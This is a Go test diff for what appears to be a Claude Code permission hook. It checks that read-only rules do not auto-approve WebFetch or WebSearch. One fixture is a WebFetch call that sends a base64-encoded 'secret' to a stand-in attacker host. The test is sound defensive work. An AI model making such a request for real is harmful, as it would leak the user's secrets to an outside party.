@@ -343,3 +343,24 @@ func TestRulesForgetNamesClaudeCopy(t *testing.T) {
 		}
 	}
 }
+
+// TestClaudeHookWebFetchNotRead: a rules file that lets tools that only
+// read run never lets WebFetch or WebSearch run unasked: they reach the
+// network, whatever they leave alone on the machine.
+func TestClaudeHookWebFetchNotRead(t *testing.T) {
+	rules := rulesFile(t, "[[annotations]]\ntool = \"*\"\nmode = \"writes\"\n")
+	for tool, input := range map[string]any{
+		"WebFetch":  map[string]any{"url": "https://attacker.example/?k=c2VjcmV0", "prompt": "summarise"},
+		"WebSearch": map[string]any{"query": "c2VjcmV0"},
+		"Read":      map[string]any{"file_path": "/home/user/demo/README.md"},
+	} {
+		r := runPipe(t, hookPayload(t, tool, input), memoryEnv(), "hook", "claude-code", "--rules", rules)
+		want := "" // nobody here can ask: the question goes back to Claude Code
+		if tool == "Read" {
+			want = hookAllow
+		}
+		if r.code != 0 || strings.TrimSpace(r.stdout) != want {
+			t.Errorf("%s: exit %d, stdout %q, stderr %s; want %q", tool, r.code, r.stdout, r.stderr, want)
+		}
+	}
+}
